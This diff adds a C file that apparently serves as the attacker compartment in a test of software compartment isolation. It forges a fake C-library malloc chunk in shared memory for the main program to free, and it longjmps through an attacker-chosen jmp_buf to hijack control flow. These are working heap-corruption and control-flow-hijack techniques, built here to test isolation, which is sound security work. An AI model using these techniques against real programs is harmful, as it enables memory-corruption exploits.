@@ -1,0 +1,33 @@
+/* The attacker: its compartment's code is the thief's. */
+#include <setjmp.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+
+/* Shared with every compartment (shared.globals); main may read it. */
+_Alignas(16) char exchange[256];
+
+/* Ends main's call with a longjmp to `target` (unwind.c carries it back to main as BH_ST_UNWOUND). */
+int thief_jump(uintptr_t target, int value)
+{
+    longjmp(*(jmp_buf *)target, value);
+}
+
+/* A label main frees when done (it would be a block of the shared heap): instead, a made-up chunk of the C
+ * library's malloc (size 0x30, in use before it) in memory main can read and the thief can write. */
+char *thief_label(void)
+{
+    uint64_t size = 0x31;
+    memset(exchange, 0, sizeof exchange);
+    memcpy(exchange + 8, &size, sizeof size);
+    memcpy(exchange + 0x38, &size, sizeof size);   /* the next chunk's header, for good measure */
+    strcpy(exchange + 16, "thief-label");
+    return exchange + 16;
+}
+
+/* What main's next C-library block of that size holds, if main's malloc handed out the made-up chunk. */
+void thief_peek(void)
+{
+    printf("thief: the exchange holds '%s'\n", exchange + 16);
+    fflush(stdout);
+}
